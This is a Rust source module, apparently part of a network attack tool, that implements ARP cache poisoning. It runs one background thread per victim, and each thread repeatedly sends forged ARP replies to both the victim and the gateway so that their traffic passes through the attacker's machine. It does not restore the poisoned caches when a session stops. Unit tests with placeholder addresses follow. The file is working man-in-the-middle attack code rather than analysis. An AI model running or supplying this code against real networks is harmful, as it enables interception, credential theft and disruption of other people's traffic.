//! ARP cache poisoning sessions.
//!
//! One detached worker per victim. Every tick it tells the victim that
//! the gateway's IP lives at our MAC and tells the gateway that the
//! victim's IP lives at our MAC, keeping both caches poisoned while the
//! kernel forwards (or drops) the traffic now routed through us.
//!
//! Stopping a session only stops the ticks; victim caches are left to
//! heal on their own ARP timeout.

use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;

use log::{error, info, warn};
use pnet::datalink::NetworkInterface;
use pnet::util::MacAddr;

use crate::common::globals::SPOOF_TICK;
use crate::networking::arp;
use crate::networking::host::Host;

/// Tracks one cancellation flag per poisoned host id.
pub struct SpoofManager {
    sessions: Mutex<HashMap<u32, Arc<AtomicBool>>>,
}

impl SpoofManager {
    pub fn new() -> Self {
        SpoofManager {
            sessions: Mutex::new(HashMap::new()),
        }
    }

    /// Starts a poisoning session for the host. Idempotent: a second
    /// call for the same id is a no-op.
    pub fn start(
        &self,
        host: &Host,
        iface: &NetworkInterface,
        gateway_ip: Ipv4Addr,
        gateway_mac: MacAddr,
    ) {
        let mut sessions = self.sessions.lock().unwrap();
        if sessions.contains_key(&host.id) {
            return;
        }

        let running = Arc::new(AtomicBool::new(true));
        sessions.insert(host.id, Arc::clone(&running));

        let iface = iface.clone();
        let victim_ip = host.ip;
        let victim_mac = host.mac;
        thread::spawn(move || {
            poison_loop(running, iface, victim_ip, victim_mac, gateway_ip, gateway_mac);
        });
    }

    /// Signals the session for `id` and drops its handle. Never blocks;
    /// the worker exits within one tick. No-op for unknown ids.
    pub fn stop(&self, id: u32) {
        if let Some(flag) = self.sessions.lock().unwrap().remove(&id) {
            flag.store(false, Ordering::Relaxed);
            info!("spoof session {} signalled to stop", id);
        }
    }

    /// Signals every session and clears the table.
    pub fn stop_all(&self) {
        let mut sessions = self.sessions.lock().unwrap();
        for (_, flag) in sessions.drain() {
            flag.store(false, Ordering::Relaxed);
        }
    }

    pub fn is_active(&self, id: u32) -> bool {
        self.sessions.lock().unwrap().contains_key(&id)
    }

    /// Ids with a live session, ascending.
    pub fn active_ids(&self) -> Vec<u32> {
        let mut ids: Vec<u32> = self.sessions.lock().unwrap().keys().copied().collect();
        ids.sort_unstable();
        ids
    }

    pub fn session_count(&self) -> usize {
        self.sessions.lock().unwrap().len()
    }
}

impl Default for SpoofManager {
    fn default() -> Self {
        Self::new()
    }
}

fn poison_loop(
    running: Arc<AtomicBool>,
    iface: NetworkInterface,
    victim_ip: Ipv4Addr,
    victim_mac: MacAddr,
    gateway_ip: Ipv4Addr,
    gateway_mac: MacAddr,
) {
    let Some(attacker_mac) = iface.mac else {
        error!("{} has no MAC address, cannot poison {}", iface.name, victim_ip);
        return;
    };

    info!("poisoning {} <-> {}", victim_ip, gateway_ip);

    while running.load(Ordering::Relaxed) {
        // Victim learns: gateway IP -> attacker MAC.
        let to_victim = arp::build_reply(attacker_mac, victim_mac, gateway_ip, victim_ip);
        if let Err(e) = arp::send_frame(&iface, &to_victim) {
            warn!("poison frame to {} failed: {}", victim_ip, e);
        }

        // Gateway learns: victim IP -> attacker MAC.
        let to_gateway = arp::build_reply(attacker_mac, gateway_mac, victim_ip, gateway_ip);
        if let Err(e) = arp::send_frame(&iface, &to_gateway) {
            warn!("poison frame to gateway {} failed: {}", gateway_ip, e);
        }

        thread::sleep(SPOOF_TICK);
    }

    info!("stopped poisoning {}", victim_ip);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn test_iface() -> NetworkInterface {
        NetworkInterface {
            name: "testif0".to_string(),
            description: String::new(),
            index: 0,
            mac: Some(MacAddr(0x02, 0, 0, 0, 0, 0x01)),
            ips: Vec::new(),
            flags: 0,
        }
    }

    fn victim(id: u32) -> Host {
        Host::new(
            id,
            Ipv4Addr::new(192, 168, 1, 10),
            MacAddr(0x02, 0, 0, 0, 0, 0x02),
            None,
        )
    }

    fn gateway() -> (Ipv4Addr, MacAddr) {
        (Ipv4Addr::new(192, 168, 1, 1), MacAddr(0x02, 0, 0, 0, 0, 0x03))
    }

    #[test]
    fn double_start_keeps_one_session() {
        let manager = SpoofManager::new();
        let (gw_ip, gw_mac) = gateway();
        let host = victim(1);

        manager.start(&host, &test_iface(), gw_ip, gw_mac);
        manager.start(&host, &test_iface(), gw_ip, gw_mac);

        assert_eq!(manager.session_count(), 1);
        assert!(manager.is_active(1));
        manager.stop_all();
    }

    #[test]
    fn stop_on_absent_id_is_a_noop() {
        let manager = SpoofManager::new();
        manager.stop(99);
        assert_eq!(manager.session_count(), 0);
    }

    #[test]
    fn stop_all_clears_every_session() {
        let manager = SpoofManager::new();
        let (gw_ip, gw_mac) = gateway();

        manager.start(&victim(1), &test_iface(), gw_ip, gw_mac);
        manager.start(&victim(2), &test_iface(), gw_ip, gw_mac);
        assert_eq!(manager.active_ids(), vec![1, 2]);

        manager.stop_all();
        assert_eq!(manager.session_count(), 0);
        assert!(!manager.is_active(1));
    }

    #[test]
    fn stop_removes_only_the_named_session() {
        let manager = SpoofManager::new();
        let (gw_ip, gw_mac) = gateway();

        manager.start(&victim(1), &test_iface(), gw_ip, gw_mac);
        manager.start(&victim(2), &test_iface(), gw_ip, gw_mac);

        manager.stop(1);
        assert_eq!(manager.active_ids(), vec![2]);
        manager.stop_all();
    }
}
